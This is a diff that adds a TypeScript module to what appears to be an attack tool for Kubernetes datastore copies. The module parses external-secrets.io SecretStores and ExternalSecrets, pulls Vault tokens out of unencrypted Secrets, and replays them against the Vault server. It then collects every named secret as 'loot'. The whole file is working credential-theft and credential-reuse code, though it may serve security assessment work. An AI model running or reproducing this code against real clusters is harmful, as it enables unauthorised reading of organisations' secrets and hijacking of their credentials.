@@ -1,0 +1,108 @@
+// Credential reuse from the datastore: a SecretStore names a key server and the Secret holding its token, and the
+// ExternalSecrets name the keys it reads. Whoever reads the datastore (a disk copy, etcd) reads all three; when the
+// token Secret is stored in the clear, the attacker replays the token from anywhere that reaches the key server and
+// reads those keys - what the controller itself can read. (A token Secret encrypted at rest is not opened here; the
+// note says so.) Same idea as the KMS plugin's token on the disk (disk-attack.ts).
+import { decodeObject } from '../../objects/object-codec.js';
+import { parseStoredValue, type StoredValue } from '../decrypt-trial.js';
+import type { Loot } from '../loot.js';
+
+/** Where kube keeps the external-secrets.io objects (custom resources: /registry/<group>/<plural>/...). */
+export const EXTERNAL_SECRETS_PREFIX = '/registry/external-secrets.io/';
+export const EXTERNAL_SECRETS_END = '/registry/external-secrets.io0';
+
+interface VaultStoreSpec {
+  server?: string;
+  path?: string;
+  version?: string;
+  namespace?: string;
+  auth?: { tokenSecretRef?: { name?: string; key?: string; namespace?: string } };
+}
+
+interface EsObject {
+  kind?: string;
+  metadata?: { name?: string; namespace?: string };
+  spec?: {
+    provider?: { vault?: VaultStoreSpec };
+    secretStoreRef?: { name?: string; kind?: string };
+    data?: { remoteRef?: { key?: string } }[];
+    dataFrom?: { extract?: { key?: string } }[];
+  };
+}
+
+function decode(v: StoredValue): EsObject | undefined {
+  try {
+    return decodeObject(v.value);
+  } catch {
+    return undefined;
+  }
+}
+
+export async function replaySecretStoreTokens(objects: readonly StoredValue[], secrets: readonly StoredValue[], where: string, loot: Loot, signal: AbortSignal): Promise<void> {
+  const decoded = objects.map(decode).filter((o): o is EsObject => o !== undefined);
+  const stores = decoded.filter((o) => (o.kind === 'SecretStore' || o.kind === 'ClusterSecretStore') && o.spec?.provider?.vault);
+  const externalSecrets = decoded.filter((o) => o.kind === 'ExternalSecret');
+  const seen = new Set<string>();
+  for (const store of stores) {
+    const vault = store.spec!.provider!.vault!;
+    const storeName = `${store.kind} ${store.metadata?.namespace ? `${store.metadata.namespace}/` : ''}${store.metadata?.name ?? '?'}`;
+    // A store's older revisions (a copy keeps them until compaction) name the same token: replay it once.
+    if (seen.has(storeName)) continue;
+    seen.add(storeName);
+    const ref = vault.auth?.tokenSecretRef;
+    const ns = ref?.namespace ?? store.metadata?.namespace;
+    if (!vault.server || !ref?.name || !ns) {
+      loot.notes.push(`${where}: ${storeName} (vault provider) authenticates without a token Secret; not replayed`);
+      continue;
+    }
+    const secretKey = `/registry/secrets/${ns}/${ref.name}`;
+    const stored = secrets.find((s) => s.key === secretKey);
+    if (!stored) {
+      loot.notes.push(`${where}: ${storeName}'s token Secret ${ns}/${ref.name} is not in the datastore`);
+      continue;
+    }
+    const format = parseStoredValue(stored.value);
+    if (format.kind !== 'identity') {
+      loot.notes.push(`${where}: ${storeName}'s token Secret ${ns}/${ref.name} is stored encrypted (${format.kind}); not replayed`);
+      continue;
+    }
+    const secret = decode(stored) as { data?: Record<string, string> } | undefined;
+    const token = Buffer.from(secret?.data?.[ref.key ?? 'token'] ?? '', 'base64').toString('latin1').trim();
+    if (!token) continue;
+    const mount = vault.path ?? 'secret';
+    const v2 = (vault.version ?? 'v2') === 'v2';
+    const keys = new Set<string>();
+    for (const es of externalSecrets) {
+      const r = es.spec?.secretStoreRef;
+      if (r?.name !== store.metadata?.name || (r?.kind ?? 'SecretStore') !== store.kind) continue;
+      if (store.kind === 'SecretStore' && es.metadata?.namespace !== store.metadata?.namespace) continue;
+      for (const d of es.spec?.data ?? []) if (d.remoteRef?.key) keys.add(d.remoteRef.key);
+      for (const d of es.spec?.dataFrom ?? []) if (d.extract?.key) keys.add(d.extract.key);
+    }
+    let read = 0;
+    let refused = 0;
+    for (const key of keys) {
+      const path = v2 ? `${mount}/data/${key}` : `${mount}/${key}`;
+      const res = await fetch(`${vault.server}/v1/${path}`, {
+        headers: { 'X-Vault-Token': token, ...(vault.namespace ? { 'X-Vault-Namespace': vault.namespace } : {}) },
+        signal,
+      }).catch(() => undefined);
+      const body = res ? Buffer.from(await res.arrayBuffer()) : Buffer.alloc(0);
+      if (res?.ok) {
+        read++;
+        loot.blobs.push({
+          label: `${where}: ${storeName}'s token (Secret ${ns}/${ref.name}, stored in the clear) replayed against ${vault.server}: GET /v1/${path}`,
+          bytes: body,
+          credentialReuse: true,
+        });
+      } else {
+        refused++;
+        body.fill(0);
+      }
+    }
+    loot.notes.push(
+      `${where}: ${storeName} (vault ${vault.server}, ${mount}/ ${v2 ? 'v2' : 'v1'}) with its token in Secret ${ns}/${ref.name} in the clear; ` +
+        `replayed for the ${keys.size} key(s) its ExternalSecrets name: ${read} read, ${refused} refused or unreachable`,
+    );
+  }
+}
